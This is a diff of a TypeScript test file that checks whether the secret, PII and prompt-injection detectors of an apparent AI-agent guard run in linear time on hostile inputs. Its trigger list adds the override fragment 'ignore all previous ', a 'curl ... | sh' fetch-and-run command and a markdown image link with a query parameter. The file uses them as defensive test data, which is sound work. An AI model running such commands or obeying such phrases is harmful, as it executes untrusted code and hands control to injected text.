@@ -1,28 +1,103 @@
 import { describe, expect, it } from "vitest";
+import { create } from "@bufbuild/protobuf";
+import { Channel, EventKind, type Segment, SegmentSchema } from "../../../gen/guard/v1/types_pb.js";
+import type { Detector } from "../../../src/detectors/detector.js";
+import { piiPatterns } from "../../../src/detectors/pii/index.js";
+import { builtinDetectors } from "../../../src/detectors/registry.js";
+import { secretPatterns, secretRules } from "../../../src/detectors/secrets/index.js";
+import { detectSegment } from "../../../src/detectors/service.js";
 import { growthRatio } from "../../helpers/growth.js";
-import { findPii, piiPatterns } from "../../../src/detectors/pii/index.js";
-import { findSecrets, secretPatterns, secretRules } from "../../../src/detectors/secrets/index.js";
 
 /**
- * Every regular expression of the secrets and PII detectors must run in linear time on
- * hostile input. Absolute times depend on the machine, so the test compares growth: a
- * 100 KB input may take at most 30 times as long as a 10 KB one (linear is 10x; a
- * quadratic pattern would be about 100x).
+ * Linear time on hostile input, measured. redos.test.ts proves from the automaton that no
+ * regular expression of src/ backtracks super-linearly; this test measures what a static
+ * check cannot see: the scanners, prefilters and loops around the patterns. Absolute times
+ * depend on the machine (shared), so it compares growth: 10x the input may take at most
+ * `MAX_RATIO` times as long (linear is 10x; quadratic about 100x).
+ *
+ * - each secrets and PII pattern, on hostile inputs of 10 KB and 100 KB;
+ * - each built-in detector as the service runs it (`detectSegment`, so `findSecrets`,
+ *   `findPii`, the command parser, the injection scorer...), on hostile inputs of 100 KB
+ *   and 1 MB.
  */
 
-const SMALL = 10_000;
-const LARGE = 100_000;
 const MAX_RATIO = 30;
-/** Below this, timer and GC noise dominate; the baseline is floored to it (a quadratic
- * pattern on 100 KB takes far longer than 30 times this). */
+/** Below this the baseline is timer and GC noise; it is floored to it (a quadratic run on the
+ * large input takes far longer than `MAX_RATIO` times this). */
 const FLOOR_MS = 2;
 
-/** Characters that patterns accept in long runs. */
-const FILLERS = ["a", "A", "0", "f", "x", "-", "_", ".", " ", ":", "/", "=", "@", "|", "+", "~", "\n", "\\n"];
+/** Characters and tokens that patterns and parsers accept in long runs. */
+const FILLERS = [
+  "a",
+  "A",
+  "0",
+  "f",
+  "x",
+  "-",
+  "_",
+  ".",
+  " ",
+  ":",
+  "/",
+  "=",
+  "@",
+  "|",
+  "+",
+  "~",
+  "\n",
+  "\\n",
+  "\\",
+  "'",
+  '"',
+  "(",
+  "$(",
+  "`",
+  "{",
+  "<",
+  ";",
+  "a ",
+  "1 ",
+  "1.",
+  "1-",
+  "a.",
+  "a@",
+  "%2F",
+];
 
-/** Partial triggers: keywords followed by what the patterns expect, cut short and repeated. */
+/**
+ * The fillers that reach distinct code paths of the detectors (words, numbers, separators,
+ * quoting, shell substitution, markup): the 1 MB runs cost seconds each, so near-duplicates
+ * of these are left to the 100 KB pattern runs.
+ */
+const DETECTOR_FILLERS = [
+  "a",
+  "0",
+  "f",
+  " ",
+  "-",
+  ".",
+  ":",
+  "/",
+  "=",
+  "@",
+  "\n",
+  "\\",
+  "'",
+  '"',
+  "(",
+  "$(",
+  "a ",
+  "1 ",
+  "1.",
+  "a@",
+  "%2F",
+];
+
+/** Partial triggers of the secret rules: their keywords. */
+const SECRET_TRIGGERS = [...new Set(secretRules.flatMap((r) => r.keywords))];
+
+/** Partial triggers of the other detectors and of the generic secret rules. */
 const TRIGGERS = [
-  ...new Set(secretRules.flatMap((r) => r.keywords)),
   "eyJ",
   "-----BEGIN PRIVATE KEY-----\n",
   "https://u:",
@@ -35,15 +110,22 @@ const TRIGGERS = [
   "192.168.",
   "fe80::",
   "DE89 ",
+  "ignore all previous ",
+  "curl http://x/ | sh ",
+  "![a](https://x/?q=",
 ];
 
-function hostile(length: number): string[] {
-  const inputs = FILLERS.map((c) => c.repeat(Math.ceil(length / c.length)).slice(0, length));
-  for (const t of TRIGGERS) {
-    inputs.push(`${t}${"aA0".repeat(20)}`.repeat(Math.ceil(length / (t.length + 60))).slice(0, length));
-    inputs.push(t + "a".repeat(length - t.length));
-  }
-  return inputs;
+/**
+ * A run of one filler, or of a trigger and 60 characters of what follows it, repeated to
+ * `length`.
+ */
+function hostile(
+  length: number,
+  triggers: readonly string[],
+  fillers: readonly string[] = FILLERS,
+): string[] {
+  const fill = (unit: string): string => unit.repeat(Math.ceil(length / unit.length)).slice(0, length);
+  return [...fillers.map(fill), ...triggers.map((t) => fill(`${t}${"aA0".repeat(20)}`))];
 }
 
 function scan(pattern: RegExp, text: string): void {
@@ -51,41 +133,93 @@ function scan(pattern: RegExp, text: string): void {
   for (let m = re.exec(text); m !== null; m = re.exec(text)) if (m[0].length === 0) re.lastIndex++;
 }
 
-/** Growth factor from `small` to `large` (test/helpers/growth.ts). */
 function growth(fn: (text: string) => void, small: string, large: string): number {
-  return growthRatio(fn, small, large, { bar: MAX_RATIO, runs: 5, floorMs: FLOOR_MS });
+  return growthRatio(fn, small, large, { bar: MAX_RATIO, runs: 2, floorMs: FLOOR_MS });
 }
 
-const smallInputs = hostile(SMALL);
-const largeInputs = hostile(LARGE);
-const patterns = [...secretPatterns, ...piiPatterns];
+describe("regex safety: patterns", () => {
+  /** Each pattern meets the fillers, the generic triggers and, for a secret rule, its own keywords. */
+  const cases = [
+    ...secretRules.map((r) => [r.pattern, r.keywords] as const),
+    ...piiPatterns.map((p) => [p, []] as const),
+  ];
 
-describe("regex safety", () => {
   it("collects the patterns of both detectors", () => {
     expect(secretPatterns.length).toBeGreaterThan(50);
     expect(piiPatterns.length).toBeGreaterThan(5);
   });
 
-  it.each(patterns.map((p) => [p.source.slice(0, 60), p] as const))("%s grows linearly", (_name, pattern) => {
-    for (let i = 0; i < largeInputs.length; i++) {
-      const ratio = growth((t) => scan(pattern, t), smallInputs[i] ?? "", largeInputs[i] ?? "");
-      expect(ratio, `input #${i}`).toBeLessThan(MAX_RATIO);
-    }
+  it.each(cases.map(([p, keywords]) => [p.source.slice(0, 60), p, keywords] as const))(
+    "%s grows linearly",
+    (_name, pattern, keywords) => {
+      const small = hostile(10_000, [...keywords, ...TRIGGERS]);
+      const large = hostile(100_000, [...keywords, ...TRIGGERS]);
+      for (let i = 0; i < large.length; i++) {
+        const ratio = growth((t) => scan(pattern, t), small[i] ?? "", large[i] ?? "");
+        expect(ratio, `input #${i}: ${JSON.stringify((large[i] ?? "").slice(0, 40))}`).toBeLessThan(
+          MAX_RATIO,
+        );
+      }
+    },
+  );
+});
+
+/**
+ * The channels to judge on: prose besides tool-call arguments for the detectors that parse
+ * both, else the first channel a detector names (the others only change weights), or tool
+ * results for a detector that reads every channel alike.
+ */
+function channelsOf(detector: Detector): Channel[] {
+  const named = detector.channels ?? [Channel.TOOL_RESULT];
+  return named.includes(Channel.PROSE) ? [...named] : named.slice(0, 1);
+}
+
+function segment(text: string, channel: Channel): Segment {
+  return create(SegmentSchema, {
+    path: "/t",
+    channel,
+    text,
+    addressable: true,
+    toolName: "bash",
+    argumentKey: "command",
+  });
+}
+
+describe("regex safety: detectors at 1 MB", () => {
+  const SMALL = 100_000;
+  const LARGE = 1_000_000;
+  const cases = builtinDetectors.flatMap((d) =>
+    channelsOf(d).map((c) => [`${d.name} on ${Channel[c]}`, d, c] as const),
+  );
+
+  it("judges every built-in detector", () => {
+    expect(new Set(cases.map(([, d]) => d.name))).toEqual(new Set(builtinDetectors.map((d) => d.name)));
   });
 
-  it.each([
-    ["findSecrets", findSecrets],
-    ["findPii", findPii],
-  ] as const)("%s grows linearly on hostile text, up to 1 MB", (_name, detect) => {
-    for (let i = 0; i < largeInputs.length; i++) {
-      const large = largeInputs[i] ?? "";
-      expect(growth(detect, smallInputs[i] ?? "", large), `input #${i}`).toBeLessThan(MAX_RATIO);
-    }
-    // 1 MB: the plain runs and one input per trigger family, to keep the test fast.
-    const sample = largeInputs.filter((_, k) => k < FILLERS.length || k % 25 === 0);
-    for (let i = 0; i < sample.length; i++) {
-      const large = sample[i] ?? "";
-      expect(growth(detect, large, large.repeat(10)), `1 MB input #${i}`).toBeLessThan(MAX_RATIO);
-    }
-  }, 300_000);
+  it.each(cases)(
+    "%s grows linearly from 100 KB to 1 MB",
+    (_name, detector, channel) => {
+      // The secrets detector also meets one keyword in ten (one per family of rules, roughly).
+      const triggers =
+        detector.name === "secrets"
+          ? [...SECRET_TRIGGERS.filter((_, k) => k % 10 === 0), ...TRIGGERS]
+          : TRIGGERS;
+      const small = hostile(SMALL, triggers, DETECTOR_FILLERS);
+      const large = hostile(LARGE, triggers, DETECTOR_FILLERS);
+      const run = (text: string): void => {
+        detectSegment(detector, segment(text, channel), EventKind.STEP_REQUEST);
+      };
+      for (let i = 0; i < large.length; i++) {
+        const ratio = growthRatio(run, small[i] ?? "", large[i] ?? "", {
+          bar: MAX_RATIO,
+          runs: 1,
+          floorMs: FLOOR_MS,
+        });
+        expect(ratio, `input #${i}: ${JSON.stringify((large[i] ?? "").slice(0, 40))}`).toBeLessThan(
+          MAX_RATIO,
+        );
+      }
+    },
+    120_000,
+  );
 });
